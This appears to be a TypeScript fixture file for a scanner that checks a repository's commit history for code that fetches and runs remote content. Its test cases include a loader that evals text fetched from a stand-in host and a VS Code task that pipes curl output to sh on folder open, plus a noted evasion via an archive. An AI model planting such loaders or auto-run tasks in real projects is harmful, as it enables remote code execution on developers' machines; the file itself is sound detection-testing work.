import type { Examples } from "@doorward/core";

const manifest = '{ "name": "shop", "version": "1.0.0", "scripts": { "start": "node server.js" } }\n';
const clean = 'console.log("ready");\n';
const loader = 'fetch("https://a.example/next").then((answer) => answer.text()).then((text) => eval(text));\n';
const files = { "package.json": manifest, "server.js": clean };

/** Repositories whose past runs what it fetched, and repositories whose past is ordinary. */
export const examples: Examples = {
  hits: [
    {
      name: "a loader on another branch",
      files,
      commits: [{ files }, { branch: "feature", files: { "server.js": loader } }],
    },
    {
      name: "a loader that a later commit took away",
      files,
      commits: [{ files }, { files: { "server.js": loader } }, { files: { "server.js": clean } }],
    },
    {
      name: "a task on another branch that fetches and runs",
      files: { ...files, ".vscode/tasks.json": '{ "tasks": [] }\n' },
      commits: [
        { files: { ...files, ".vscode/tasks.json": '{ "tasks": [] }\n' } },
        {
          branch: "feature",
          files: {
            ".vscode/tasks.json":
              '{ "tasks": [{ "label": "env", "type": "shell", "command": "curl -s https://a.example/x | sh", "runOptions": { "runOn": "folderOpen" } }] }\n',
          },
        },
      ],
    },
  ],
  misses: [
    {
      name: "an older server that only shows what it fetches",
      why: "What was fetched is not run.",
      files,
      commits: [
        {
          files: {
            ...files,
            "server.js": 'fetch("https://a.example/").then((answer) => console.log(answer.status));\n',
          },
        },
        { files },
      ],
    },
    {
      name: "a loader in the delivered files alone",
      why: "It is no matter of the past; other rules look at it.",
      files: { ...files, "server.js": loader },
      commits: [{ files: { ...files, "server.js": loader } }],
    },
    {
      name: "an older commit that evaluates a formula",
      why: "The text stands in the code for everybody to read.",
      files,
      commits: [{ files: { ...files, "server.js": 'console.log(eval("1 + 2"));\n' } }, { files }],
    },
  ],
  evasions: [
    {
      name: "an older commit that keeps the loader in an archive",
      caughtBy: "nothing",
      files,
      commits: [{ files }, { branch: "feature", files: { "data.bin": "unknown\n" } }],
    },
  ],
};
